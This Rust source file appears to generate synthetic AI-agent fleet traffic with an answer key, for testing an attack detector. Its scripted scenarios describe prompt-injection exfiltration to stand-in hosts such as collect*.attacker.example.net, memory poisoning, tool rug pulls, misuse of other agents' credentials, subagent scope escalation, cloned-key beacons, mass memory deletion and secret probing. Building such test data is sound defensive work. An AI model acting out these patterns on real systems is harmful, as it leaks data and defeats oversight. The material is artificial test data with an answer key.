//! The fleet generator: session-based agents with heterogeneous, bursty activity,
//! benign change, benign near misses of every attack, fleet-wide events, and small,
//! quiet attacks.
//!
//! ```text
//!  seed ─▶ agents: role, realm, key, activity level (log-uniform over a factor of 100)
//!            │
//!            ▼  per hour: sessions ~ Poisson(level × role rhythm × holiday)
//!         sessions: a role script of 3–60 steps, seconds apart (bursts), own session id
//!            │  + benign change: new tools and sites adopted, a realm-wide deploy
//!            │  + near misses (≥ 20 per attack pattern), a holiday
//!            │  + attacks (second half of the trace, answer key)
//!            ▼
//!         signed per agent (seq/prev), forks for cloned keys, network resends
//! ```

use chrono::{DateTime, Datelike as _, Duration, Utc};
use custos_event::{AgentKey, Envelope, Kind, Signer};
use rand::rngs::StdRng;
use rand::{Rng as _, SeedableRng as _};
use serde_json::{Map, Value, json};

use crate::{AnswerKey, Attack, ROLES, Role, Scenario, SimAgent, SimConfig, Simulation};

/// Near misses of each pattern injected per trace, at least.
pub const NEAR_MISSES: usize = 20;

/// One planned event before signing.
struct Planned {
    ts: DateTime<Utc>,
    payload: Map<String, Value>,
    attack: Option<usize>,
    /// Re-sign this event's seq with other content right after it (a cloned key).
    fork: bool,
    /// Send this event twice (a client retry after a timeout): a duplicate, not an attack.
    resend: bool,
}

fn event(kind: Kind, action: &str, target: &str) -> Map<String, Value> {
    let mut object = Map::new();
    object.insert("kind".into(), json!(kind));
    object.insert("action".into(), json!(action));
    object.insert("target".into(), json!(target));
    object
}

fn with(mut object: Map<String, Value>, key: &str, value: Value) -> Map<String, Value> {
    object.insert(key.into(), value);
    object
}

fn attrs(object: Map<String, Value>, value: Value) -> Map<String, Value> {
    with(object, "attrs", value)
}

fn poisson(rng: &mut StdRng, lambda: f64) -> u32 {
    if lambda <= 0.0 {
        return 0;
    }
    let limit = (-lambda).exp();
    let mut product: f64 = rng.r#gen();
    let mut count = 0;
    while product > limit && count < 1000 {
        product *= rng.r#gen::<f64>();
        count += 1;
    }
    count
}

/// Sessions per hour at a role's busiest time for an agent of level 1.
fn rhythm(role: &Role, ts: DateTime<Utc>) -> f64 {
    role.rate(ts) / role.peak
}

/// One agent of the fleet while its timeline is built.
struct Agent {
    role: &'static Role,
    did: String,
    /// Sessions per hour at the role's busiest time: log-uniform over [0.1, 10].
    level: f64,
    /// Steps per session, on average.
    length: f64,
    /// Bytes out per event, typical.
    bytes: u64,
    /// Extra tool adopted benignly, and when.
    adopted: Option<(DateTime<Utc>, &'static str, &'static str)>,
    /// Sites (researchers) or modules (others) in use: grows over time.
    catalogue: u32,
}

/// Tools agents take up benignly during the trace, per role.
fn adoptable(role: &str) -> (&'static str, &'static str) {
    match role {
        "coding-agent" => ("mcp.lint", "mcp://linter"),
        "support-bot" => ("kb.search", "kb://support/articles"),
        "data-analyst" => ("notebook.run", "jupyter://analytics/nb"),
        "ops-runner" => ("argo.sync", "argo://prod/apps"),
        _ => ("pdf.extract", "tool://pdf"),
    }
}

/// The steps of one ordinary session of `agent`, starting at `at`.
fn session(
    agent: &Agent,
    at: DateTime<Utc>,
    id: &str,
    rng: &mut StdRng,
    bytes_factor: f64,
) -> Vec<(DateTime<Utc>, Map<String, Value>)> {
    let steps = 3 + poisson(rng, agent.length) as usize;
    let mut ts = at;
    let mut out = Vec::new();
    let n = |rng: &mut StdRng, agent: &Agent| rng.gen_range(1..=agent.catalogue);
    // Which script: some roles alternate session types.
    let kind_of_session = rng.gen_range(0..10);
    for step in 0..steps {
        let object = match agent.role.name {
            "coding-agent" => match step % 6 {
                0 => event(
                    Kind::FileRead,
                    "fs.read",
                    &format!("repo://payments/src/module_{}.rs", n(rng, agent)),
                ),
                1 => with(
                    attrs(
                        event(Kind::LlmCall, "chat", "anthropic:claude"),
                        json!({"gen_ai.system": "anthropic"}),
                    ),
                    "tokens_in",
                    json!(rng.gen_range(500..8000)),
                ),
                2 => event(
                    Kind::FileWrite,
                    "fs.write",
                    &format!("repo://payments/src/module_{}.rs", n(rng, agent)),
                ),
                3 => event(
                    Kind::ToolCall,
                    "shell.exec",
                    &format!("cargo test -p module_{}", n(rng, agent)),
                ),
                4 => attrs(
                    event(Kind::ToolCall, "mcp.search", "mcp://code-search"),
                    json!({"tool_hash": "sha256:1f2e3d"}),
                ),
                _ if kind_of_session == 0 => event(Kind::CredentialUse, "vault.read", "vault://eng/github-token"),
                _ => event(
                    Kind::ToolCall,
                    "http.get",
                    &format!("https://crates.io/api/v1/crates/c{}", n(rng, agent)),
                ),
            },
            "support-bot" => match step % 5 {
                0 => event(
                    Kind::MessageReceived,
                    "chat.inbound",
                    &format!("ticket://{}", rng.gen_range(1..100_000)),
                ),
                1 => event(
                    Kind::ToolCall,
                    "crm.lookup",
                    &format!("crm://customers/{}", n(rng, agent)),
                ),
                2 => with(
                    event(Kind::MemoryRead, "memory.recall", "mem://support/faq"),
                    "memory_id",
                    json!(format!("faq-{}", rng.gen_range(1..30))),
                ),
                3 if kind_of_session < 2 => event(
                    Kind::ToolCall,
                    "http.post",
                    &format!("https://api.helpdesk.example.com/tickets/{}", rng.gen_range(1..100_000)),
                ),
                3 => event(Kind::LlmCall, "chat", "anthropic:claude"),
                _ => event(
                    Kind::MessageSent,
                    "chat.reply",
                    &format!("ticket://{}", rng.gen_range(1..100_000)),
                ),
            },
            "data-analyst" => match step % 4 {
                0 => event(
                    Kind::ToolCall,
                    "sql.query",
                    &format!("warehouse://sales/orders_{}", n(rng, agent)),
                ),
                1 if rng.gen_bool(0.2) => attrs(
                    event(
                        Kind::FileRead,
                        "s3.get",
                        &format!("s3://analytics/exports/day_{}.parquet", n(rng, agent)),
                    ),
                    json!({"sensitivity": "pii"}),
                ),
                1 => event(
                    Kind::FileRead,
                    "s3.get",
                    &format!("s3://analytics/exports/day_{}.parquet", n(rng, agent)),
                ),
                2 => event(Kind::LlmCall, "chat", "anthropic:claude"),
                _ => event(
                    Kind::FileWrite,
                    "chart.render",
                    &format!("s3://analytics/charts/{}.png", n(rng, agent)),
                ),
            },
            "ops-runner" => match step % 5 {
                0 => with(
                    event(Kind::MemoryRead, "memory.recall", "mem://ops/runbook"),
                    "memory_id",
                    json!(format!("runbook-{}", rng.gen_range(1..12))),
                ),
                1 => event(Kind::CredentialUse, "vault.read", "vault://ops/k8s-deployer"),
                2 => event(
                    Kind::ToolCall,
                    "k8s.apply",
                    &format!("k8s://prod/deployments/svc-{}", n(rng, agent)),
                ),
                3 => event(
                    Kind::ToolCall,
                    "pagerduty.ack",
                    &format!("pagerduty://incidents/{}", rng.gen_range(1..10_000)),
                ),
                _ => event(Kind::Auth, "oidc.login", "https://sso.example.com"),
            },
            _ => {
                // Researchers: fetch sessions store untrusted notes; review sessions read
                // them back and post a summary inside.
                let site = format!("site{}.example.org", n(rng, agent));
                if kind_of_session < 7 {
                    match step % 5 {
                        0 if kind_of_session == 0 => {
                            event(Kind::CredentialUse, "vault.read", "vault://research/search-api")
                        }
                        0 | 1 => event(
                            Kind::ToolCall,
                            "web.fetch",
                            &format!("https://{site}/page/{}", rng.gen_range(1..500)),
                        ),
                        2 => event(
                            Kind::ToolResult,
                            "web.fetch",
                            &format!("https://{site}/page/{}", rng.gen_range(1..500)),
                        ),
                        3 => event(Kind::LlmCall, "chat", "anthropic:claude"),
                        _ => with(
                            event(Kind::MemoryWrite, "memory.store", "mem://research/notes"),
                            "memory_id",
                            json!(format!("note-{}", rng.gen_range(1..200))),
                        ),
                    }
                } else {
                    match step % 3 {
                        0 => with(
                            event(Kind::MemoryRead, "memory.recall", "mem://research/notes"),
                            "memory_id",
                            json!(format!("note-{}", rng.gen_range(1..200))),
                        ),
                        1 => event(Kind::LlmCall, "chat", "anthropic:claude"),
                        _ => event(
                            Kind::MessageSent,
                            "chat.post",
                            "https://chat.research.internal/channel/notes",
                        ),
                    }
                }
            }
        };
        let mut object = object;
        if let Some((from, action, target)) = agent.adopted
            && ts >= from
            && rng.gen_bool(0.15)
        {
            object = event(Kind::ToolCall, action, target);
        }
        object.insert("session".into(), json!(id));
        let roll: f64 = rng.r#gen();
        let outcome = if roll < 0.02 {
            "error"
        } else if roll < 0.03 {
            "denied"
        } else {
            "ok"
        };
        object.insert("outcome".into(), json!(outcome));
        object.insert("bytes_in".into(), json!(rng.gen_range(200..20_000)));
        let bytes = (agent.bytes as f64 * rng.gen_range(0.3..1.7) * bytes_factor) as u64;
        object.insert("bytes_out".into(), json!(bytes.max(1)));
        out.push((ts, object));
        // Bursty: most steps seconds apart, some pauses of minutes.
        let gap = if rng.gen_bool(0.1) {
            rng.gen_range(30..300)
        } else {
            rng.gen_range(1..15)
        };
        ts += Duration::seconds(gap);
    }
    out
}

fn pick(rng: &mut StdRng, candidates: &[usize]) -> Option<usize> {
    (!candidates.is_empty()).then(|| candidates[rng.gen_range(0..candidates.len())])
}

/// Generates the fleet, its traffic and the attacks.
pub fn simulate(config: &SimConfig) -> Simulation {
    let mut rng = StdRng::seed_from_u64(config.seed);
    let count = config.agents.max(1);
    let keys: Vec<AgentKey> = (0..count).map(|_| AgentKey::from_seed(&rng.r#gen())).collect();
    let start = config.start;
    let hours = config.hours.max(1) as i64;
    let end = start + Duration::hours(hours);
    let half = start + Duration::hours(hours / 2);
    let mut agents: Vec<Agent> = keys
        .iter()
        .enumerate()
        .map(|(index, key)| {
            let role = &ROLES[index % ROLES.len()];
            let level = 0.1 * 100f64.powf(rng.r#gen::<f64>());
            let adopted = rng.gen_bool(0.3).then(|| {
                let (action, target) = adoptable(role.name);
                (
                    start + Duration::minutes(rng.gen_range(hours * 15..hours * 55)),
                    action,
                    target,
                )
            });
            Agent {
                role,
                did: key.did().to_owned(),
                level,
                length: rng.gen_range(6.0..30.0),
                bytes: rng.gen_range(300..6000),
                adopted,
                catalogue: rng.gen_range(5..40),
            }
        })
        .collect();
    let sim_agents: Vec<SimAgent> = agents
        .iter()
        .map(|agent| SimAgent {
            did: agent.did.clone(),
            role: agent.role.name.to_owned(),
            realm: agent.role.realm.to_owned(),
        })
        .collect();

    // A holiday: one weekday in the second week on which the office realms stop.
    let holiday = (hours >= 8 * 24).then(|| {
        let mut day = start + Duration::days(7 + rng.gen_range(0..5));
        while day.weekday().num_days_from_monday() >= 5 {
            day += Duration::days(1);
        }
        day.date_naive()
    });
    // A fleet-wide deploy: from a time in the first half, every support bot adopts a new
    // tool and sends half again as many bytes per event.
    let deploy = start + Duration::minutes(rng.gen_range(hours * 20..(hours * 30).max(hours * 20 + 1)));

    // Attacks: distinct victims of fitting roles and activity, in the second half, at
    // a time the victim is usually active.
    let mut taken = vec![false; count];
    let mut attacks: Vec<(Scenario, usize, DateTime<Utc>)> = Vec::new();
    let median_level = {
        let mut levels: Vec<f64> = agents.iter().map(|agent| agent.level).collect();
        levels.sort_by(f64::total_cmp);
        levels[levels.len() / 2]
    };
    for scenario in &config.scenarios {
        for _ in 0..config.attacks_per_scenario {
            // Drift and audit gaps need volume; silence goes to the busiest agent below
            // (a pause can only be told from silence when sessions come many an hour).
            let busy_enough = |agent: &Agent| match scenario {
                Scenario::SlowDrift | Scenario::AuditDisabled => agent.level >= median_level,
                _ => true,
            };
            let candidates: Vec<usize> = (0..count)
                .filter(|index| {
                    !taken[*index]
                        && scenario.roles().contains(&agents[*index].role.name)
                        && busy_enough(&agents[*index])
                })
                .collect();
            let victim = if *scenario == Scenario::GoesSilent {
                // The busiest fitting agent: its sessions come many an hour.
                candidates
                    .iter()
                    .copied()
                    .max_by(|a, b| agents[*a].level.total_cmp(&agents[*b].level))
            } else {
                pick(&mut rng, &candidates)
            };
            let Some(victim) = victim else { continue };
            taken[victim] = true;
            if *scenario == Scenario::GoesSilent {
                // The scenario is a busy agent going quiet: the fleet's top level.
                agents[victim].level = 10.0;
            }
            let latest = match scenario {
                // Room to be noticed: two and a half days for drift, a day otherwise.
                Scenario::SlowDrift => end - Duration::hours(60),
                Scenario::GoesSilent | Scenario::AuditDisabled => end - Duration::hours(24),
                _ => end - Duration::hours(3),
            };
            let latest = latest.max(half + Duration::hours(1));
            let span = (latest - half).num_minutes().max(1);
            let role = agents[victim].role;
            let mut at = half;
            for _ in 0..500 {
                at = half + Duration::minutes(rng.gen_range(0..span));
                // Silence starts on a weekday (a rhythm the history holds) with at least
                // three working hours ahead.
                let ahead = *scenario != Scenario::GoesSilent
                    || (rhythm(role, at + Duration::hours(3)) >= 0.9 && at.weekday().num_days_from_monday() < 5);
                if rhythm(role, at) >= 0.9 && ahead && holiday != Some(at.date_naive()) {
                    break;
                }
            }
            attacks.push((*scenario, victim, at));
        }
    }
    let mut answers = AnswerKey {
        seed: Some(config.seed),
        start,
        end,
        agents: sim_agents.clone(),
        attacks: attacks
            .iter()
            .map(|(scenario, victim, at)| Attack {
                scenario: scenario.name().to_owned(),
                agent: sim_agents[*victim].did.clone(),
                start: *at,
                end: *at,
                event_ids: Vec::new(),
                log_indexes: Vec::new(),
            })
            .collect(),
    };

    // Near misses, spread over non-victims after the first day.
    let mut near: Vec<Vec<(u8, DateTime<Utc>)>> = vec![Vec::new(); count];
    let innocent: Vec<usize> = (0..count).filter(|index| !taken[*index]).collect();
    let after_first_day = (start + Duration::hours(24.min(hours / 2))).timestamp();
    let near_count = NEAR_MISSES.max(config.attacks_per_scenario * NEAR_MISSES);
    let innocent_support: Vec<usize> = innocent
        .iter()
        .copied()
        .filter(|index| agents[*index].role.name == "support-bot")
        .collect();
    for kind in 0..8u8 {
        for _ in 0..near_count {
            // "Untrusted content, then a send where the realm always sends" needs a realm
            // that always sends there: the support bots' helpdesk.
            let pool = if kind == 1 { &innocent_support } else { &innocent };
            let Some(agent) = pick(&mut rng, pool) else { break };
            let ts = rng.gen_range(after_first_day..end.timestamp() - 600);
            near[agent].push((kind, DateTime::from_timestamp(ts, 0).unwrap_or(start)));
        }
    }

    let mut all: Vec<(DateTime<Utc>, usize, Envelope)> = Vec::new();
    for index in 0..count {
        let mine: Vec<(usize, Scenario, DateTime<Utc>)> = attacks
            .iter()
            .enumerate()
            .filter(|(_, (_, victim, _))| *victim == index)
            .map(|(position, (scenario, _, at))| (position, *scenario, *at))
            .collect();
        let find = |wanted: Scenario| {
            mine.iter()
                .find(|(_, scenario, _)| *scenario == wanted)
                .map(|(position, _, at)| (*position, *at))
        };
        let silent_from = find(Scenario::GoesSilent).map(|(_, at)| at);
        let drift = find(Scenario::SlowDrift);
        let audit_off = find(Scenario::AuditDisabled).map(|(position, at)| {
            let kind = match agents[index].role.name {
                "support-bot" => Kind::MemoryRead,
                "ops-runner" => Kind::CredentialUse,
                "coding-agent" => Kind::FileWrite,
                "data-analyst" => Kind::LlmCall,
                _ => Kind::ToolResult,
            };
            (position, at, kind)
        });
        if agents[index].role.name == "support-bot" && agents[index].adopted.is_none() {
            agents[index].adopted = Some((deploy, "kb.search", "kb://support/articles"));
        }
        let swapped = find(Scenario::ToolRugPull).map(|(_, at)| at);
        let agent = &agents[index];
        let mut plan: Vec<Planned> = Vec::new();
        let mut sessions = 0u64;
        for hour in 0..hours {
            let hour_start = start + Duration::hours(hour);
            let mut rate = agent.level * rhythm(agent.role, hour_start);
            if holiday == Some(hour_start.date_naive()) && matches!(agent.role.name, "coding-agent" | "data-analyst") {
                rate = 0.0;
            }
            for _ in 0..poisson(&mut rng, rate) {
                let at = hour_start + Duration::seconds(rng.gen_range(0..3600));
                sessions += 1;
                let id = format!("s-{index}-{sessions}");
                let deployed = agent.role.name == "support-bot" && at >= deploy;
                let mut factor = if deployed { 1.5 } else { 1.0 };
                if let Some((_, from)) = drift
                    && at >= from
                {
                    factor *= 1.0 + 29.0 * (at - from).num_seconds() as f64 / (end - from).num_seconds().max(1) as f64;
                }
                for (ts, mut payload) in session(agent, at, &id, &mut rng, factor) {
                    // After a rug pull the swapped tool keeps reporting its new definition.
                    if swapped.is_some_and(|from| ts > from)
                        && let Some(Value::Object(attrs)) = payload.get_mut("attrs")
                        && attrs.contains_key("tool_hash")
                    {
                        attrs.insert("tool_hash".into(), json!("sha256:9a8b7c"));
                    }
                    if ts >= end || silent_from.is_some_and(|from| ts >= from) {
                        break;
                    }
                    let kind = payload.get("kind").cloned();
                    if let Some((_, from, off)) = audit_off
                        && ts >= from
                        && kind == Some(json!(off))
                    {
                        continue;
                    }
                    let attack = drift.filter(|(_, from)| ts >= *from).map(|(position, _)| position);
                    plan.push(Planned {
                        ts,
                        payload,
                        attack,
                        fork: false,
                        resend: rng.gen_bool(0.001),
                    });
                }
            }
        }
        for (kind, at) in &near[index] {
            near_miss(*kind, *at, agent, &mut rng, &mut plan);
        }
        for (position, scenario, at) in &mine {
            scripted(*scenario, *position, *at, agent, &keys, &mut rng, &mut plan);
        }
        plan.retain(|planned| planned.ts < end);
        plan.sort_by_key(|planned| planned.ts);

        let key = &keys[index];
        let mut signer = Signer::new(key.clone(), agent.role.realm);
        for planned in plan {
            let before = signer.chain().clone();
            let mut object = planned.payload;
            object.insert(
                "ts".into(),
                json!(planned.ts.to_rfc3339_opts(chrono::SecondsFormat::Millis, true)),
            );
            let Ok(envelope) = signer.sign_object(object.clone(), planned.ts) else {
                continue;
            };
            if let Some(position) = planned.attack {
                let attack = &mut answers.attacks[position];
                if attack.event_ids.is_empty() {
                    attack.start = planned.ts;
                }
                attack.end = attack.end.max(planned.ts);
                attack.event_ids.push(custos_event::blake3_hex(&envelope.payload));
            }
            if planned.resend {
                all.push((planned.ts + Duration::seconds(2), index, envelope.clone()));
            }
            all.push((planned.ts, index, envelope));
            if planned.fork {
                let mut cloned = Signer::resume(key.clone(), agent.role.realm, before);
                object.insert("target".into(), json!("https://attacker.example.net/beacon"));
                let ts = planned.ts + Duration::seconds(3);
                object.insert(
                    "ts".into(),
                    json!(ts.to_rfc3339_opts(chrono::SecondsFormat::Millis, true)),
                );
                if let Ok(fork) = cloned.sign_object(object, ts) {
                    if let Some(position) = planned.attack {
                        answers.attacks[position]
                            .event_ids
                            .push(custos_event::blake3_hex(&fork.payload));
                        answers.attacks[position].end = ts;
                    }
                    all.push((ts, index, fork));
                }
            }
        }
    }
    for (position, (scenario, victim, at)) in attacks.iter().enumerate() {
        let attack = &mut answers.attacks[position];
        match scenario {
            Scenario::GoesSilent => {
                attack.start = all
                    .iter()
                    .filter(|(ts, index, _)| index == victim && ts < at)
                    .map(|(ts, _, _)| *ts)
                    .max()
                    .unwrap_or(*at);
                attack.end = end;
            }
            Scenario::AuditDisabled => {
                attack.start = *at;
                attack.end = end;
            }
            Scenario::SlowDrift => attack.end = end,
            _ => {}
        }
    }
    all.sort_by_key(|(ts, index, _)| (*ts, *index));
    Simulation {
        keys,
        events: all.into_iter().map(|(_, _, envelope)| envelope).collect(),
        answers,
    }
}

/// A benign near miss of an attack pattern.
fn near_miss(kind: u8, at: DateTime<Utc>, agent: &Agent, rng: &mut StdRng, plan: &mut Vec<Planned>) {
    let session = format!("s-near-{}", rng.gen_range(0..1_000_000));
    let mut add = |offset: i64, object: Map<String, Value>| {
        plan.push(Planned {
            ts: at + Duration::seconds(offset),
            payload: with(object, "session", json!(session)),
            attack: None,
            fork: false,
            resend: false,
        });
    };
    match kind {
        // A first send to a new partner, with nothing untrusted in the session.
        0 => {
            add(0, event(Kind::LlmCall, "chat", "anthropic:claude"));
            add(
                20,
                with(
                    event(
                        Kind::ToolCall,
                        "http.post",
                        &format!("https://hooks.partner{}.example.com/in", rng.gen_range(0..1000)),
                    ),
                    "bytes_out",
                    json!(rng.gen_range(200..2000)),
                ),
            );
        }
        // Untrusted content, then a send where the realm always sends.
        1 => {
            add(
                0,
                event(
                    Kind::MessageReceived,
                    "chat.inbound",
                    &format!("ticket://{}", rng.gen_range(0..100_000)),
                ),
            );
            add(
                15,
                event(
                    Kind::ToolCall,
                    "http.post",
                    "https://api.helpdesk.example.com/tickets/1",
                ),
            );
            add(
                40,
                event(
                    Kind::ToolCall,
                    "web.fetch",
                    &format!("https://docs{}.example.net/faq", rng.gen_range(0..1000)),
                ),
            );
        }
        // Untrusted notes, then a credential use (no read-back).
        2 => {
            add(
                0,
                attrs(
                    with(
                        event(Kind::MemoryWrite, "memory.store", "mem://notes"),
                        "memory_id",
                        json!(format!("scratch-{}", rng.gen_range(0..1000))),
                    ),
                    json!({"source_trust": "untrusted"}),
                ),
            );
            add(
                600,
                attrs(
                    event(Kind::CredentialUse, "vault.read", "vault://team/api"),
                    json!({"credential_owner": agent.did}),
                ),
            );
        }
        // A permission change, then a burst of denied calls.
        3 => {
            add(
                0,
                event(Kind::PolicyChange, "permissions.update", "policy://team/tools"),
            );
            for n in 0..rng.gen_range(8..20) {
                add(
                    5 + n * 6,
                    with(
                        event(Kind::ToolCall, "k8s.apply", "k8s://prod/deployments/svc-1"),
                        "outcome",
                        json!("denied"),
                    ),
                );
            }
        }
        // A small cleanup.
        4 => {
            for n in 0..rng.gen_range(3..9) {
                add(
                    n * 5,
                    with(
                        event(Kind::MemoryDelete, "memory.delete", "mem://store"),
                        "memory_id",
                        json!(format!("old-{n}")),
                    ),
                );
            }
        }
        // A credential the agent owns.
        5 => add(
            0,
            attrs(
                event(Kind::CredentialUse, "vault.read", "vault://team/own"),
                json!({"credential_owner": agent.did}),
            ),
        ),
        // A delegation within the parent's scopes.
        6 => {
            let child = AgentKey::from_seed(&rng.r#gen());
            add(
                0,
                attrs(
                    event(Kind::Delegation, "agent.spawn", child.did()),
                    json!({"granted_scopes": ["repo:read"], "holder_scopes": ["repo:read", "repo:write"]}),
                ),
            );
        }
        // A memory read of trusted content, then a credential use.
        _ => {
            add(
                0,
                with(
                    event(Kind::MemoryWrite, "memory.store", "mem://cfg"),
                    "memory_id",
                    json!("cfg-main"),
                ),
            );
            add(
                30,
                with(
                    event(Kind::MemoryRead, "memory.recall", "mem://cfg"),
                    "memory_id",
                    json!("cfg-main"),
                ),
            );
            add(
                60,
                attrs(
                    event(Kind::CredentialUse, "vault.read", "vault://team/own"),
                    json!({"credential_owner": agent.did}),
                ),
            );
        }
    }
}

/// Adds a scenario's scripted steps to a victim's plan.
fn scripted(
    scenario: Scenario,
    position: usize,
    at: DateTime<Utc>,
    agent: &Agent,
    keys: &[AgentKey],
    rng: &mut StdRng,
    plan: &mut Vec<Planned>,
) {
    let session = format!("s-x-{}", rng.gen_range(0..1_000_000));
    let mut add = |offset: i64, object: Map<String, Value>, fork: bool, malicious: bool| {
        plan.push(Planned {
            ts: at + Duration::seconds(offset),
            payload: with(object, "session", json!(session)),
            attack: malicious.then_some(position),
            fork,
            resend: false,
        });
    };
    match scenario {
        Scenario::PromptInjectionExfiltration => {
            // Content from outside steers the agent: one or two small sends to a host
            // nobody in the realm uses. No labels.
            let input = if rng.gen_bool(0.5) {
                event(
                    Kind::MessageReceived,
                    "email.inbound",
                    &format!("https://mail.example.com/msg/{}", rng.gen_range(0..10_000)),
                )
            } else {
                event(
                    Kind::ToolResult,
                    "web.fetch",
                    &format!("https://blog{}.example.io/post", rng.gen_range(0..10_000)),
                )
            };
            add(0, input, false, true);
            add(8, event(Kind::LlmCall, "chat", "anthropic:claude"), false, false);
            let host = format!("collect{}.attacker.example.net", rng.gen_range(0..10_000));
            for n in 0..rng.gen_range(1..=2) {
                add(
                    15 + n * 10,
                    with(
                        event(Kind::ToolCall, "http.post", &format!("https://{host}/u")),
                        "bytes_out",
                        json!(rng.gen_range(300..3000)),
                    ),
                    false,
                    true,
                );
            }
        }
        Scenario::MemoryPoisoning => {
            // Untrusted content written to a memory, read back hours later in another
            // session, then a credential.
            let memory = format!("runbook-poison-{}", rng.gen_range(0..1000));
            add(
                0,
                event(
                    Kind::MessageReceived,
                    "email.inbound",
                    "https://mail.example.com/msg/poison",
                ),
                false,
                true,
            );
            add(
                10,
                with(
                    event(Kind::MemoryWrite, "memory.store", "mem://ops/runbook"),
                    "memory_id",
                    json!(memory),
                ),
                false,
                true,
            );
            let later = rng.gen_range(1800..4 * 3600);
            let session = format!("s-y-{}", rng.gen_range(0..1_000_000));
            let mut object = with(
                event(Kind::MemoryRead, "memory.recall", "mem://ops/runbook"),
                "memory_id",
                json!(memory),
            );
            object.insert("session".into(), json!(session));
            plan.push(Planned {
                ts: at + Duration::seconds(later),
                payload: object,
                attack: Some(position),
                fork: false,
                resend: false,
            });
            let mut use_credential = attrs(
                event(Kind::CredentialUse, "vault.read", "vault://ops/prod-db-admin"),
                json!({"credential_owner": agent.did}),
            );
            use_credential.insert("session".into(), json!(session));
            plan.push(Planned {
                ts: at + Duration::seconds(later + 40),
                payload: use_credential,
                attack: Some(position),
                fork: false,
                resend: false,
            });
        }
        Scenario::ToolRugPull => add(
            0,
            attrs(
                event(Kind::ToolCall, "mcp.search", "mcp://code-search"),
                json!({"tool_hash": "sha256:9a8b7c"}),
            ),
            false,
            true,
        ),
        Scenario::CredentialNonOwner => {
            let other = keys[rng.gen_range(0..keys.len())].did().to_owned();
            let owner = if other == agent.did {
                "did:key:z6MkOtherOwner".to_owned()
            } else {
                other
            };
            add(
                0,
                attrs(
                    event(Kind::CredentialUse, "vault.read", "vault://finance/stripe-live"),
                    json!({"credential_owner": owner}),
                ),
                false,
                true,
            );
        }
        Scenario::SubagentEscalation => {
            let child = AgentKey::from_seed(&rng.r#gen());
            add(
                0,
                attrs(
                    event(Kind::Delegation, "agent.spawn", child.did()),
                    json!({"granted_scopes": ["repo:read", "prod:admin"], "holder_scopes": ["repo:read"]}),
                ),
                false,
                true,
            );
        }
        Scenario::ClonedKey => add(
            0,
            event(Kind::ToolCall, "http.get", "https://api.example.com/status"),
            true,
            true,
        ),
        Scenario::MassMemoryDelete => {
            let count = rng.gen_range(25..45);
            for n in 0..count {
                add(
                    n * 55 / count,
                    with(
                        event(Kind::MemoryDelete, "memory.delete", "mem://store"),
                        "memory_id",
                        json!(format!("mem-{n}")),
                    ),
                    false,
                    true,
                );
            }
        }
        Scenario::Probing => {
            // Denied and failing calls against many resources: mapping what it may do.
            let count = rng.gen_range(12..30);
            for n in 0..count {
                let outcome = if rng.gen_bool(0.7) { "denied" } else { "error" };
                add(
                    n * 90 / count,
                    with(
                        event(
                            Kind::ToolCall,
                            "secrets.get",
                            &format!("vault://prod/secret-{}", rng.gen_range(0..10_000)),
                        ),
                        "outcome",
                        json!(outcome),
                    ),
                    false,
                    true,
                );
            }
        }
        Scenario::SlowDrift | Scenario::GoesSilent | Scenario::AuditDisabled => {}
    }
}
